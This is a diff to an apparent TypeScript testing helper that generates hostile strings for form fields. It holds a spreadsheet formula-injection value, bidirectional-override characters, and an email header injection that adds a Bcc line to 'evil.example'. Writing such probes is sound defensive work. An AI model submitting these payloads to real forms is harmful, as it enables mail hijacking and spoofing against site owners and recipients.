@@ -73,8 +73,11 @@ export function madeOf(page: string): string[] {
 /** Whether a page shows something of it, as text. */
 export const shows = (page: string): boolean => page.includes(`&lt;b ${MARK}`);
 
-/** Signs that turn the writing, and a formula for whoever opens a list as a spreadsheet. */
-const FORMULA = '=1+1\u202e\u200f';
+/** A formula for whoever opens a list as a spreadsheet, and signs that turn the writing. */
+const FORMULA = '=1+1';
+const TURNS = '\u202e\u200f';
+
+const HEADERS = '\r\nBcc: zz9@evil.example\r\n\r\n<p zz9>';
 
 /**
  * Hostile texts for a field, the worst first, and last what it needs: each is tried where the one before it was refused.
@@ -82,7 +85,8 @@ const FORMULA = '=1+1\u202e\u200f';
  * @param lines whether the field takes more than one line: those then pretend to be headers of a mail
  */
 export const hostileTexts = (door: string, needed: string, lines: boolean): readonly string[] => [
-  `${FORMULA} ${door}${POISON}${lines ? '\r\nBcc: zz9@evil.example\r\n\r\n<p zz9>' : ''}`,
+  `${FORMULA}${TURNS} ${door}${POISON}${lines ? HEADERS : ''}`,
+  `${FORMULA} ${door}${POISON}${lines ? HEADERS : ''}`,
   `${needed}${needed ? ' ' : ''}${door}${POISON}`,
   needed,
 ];
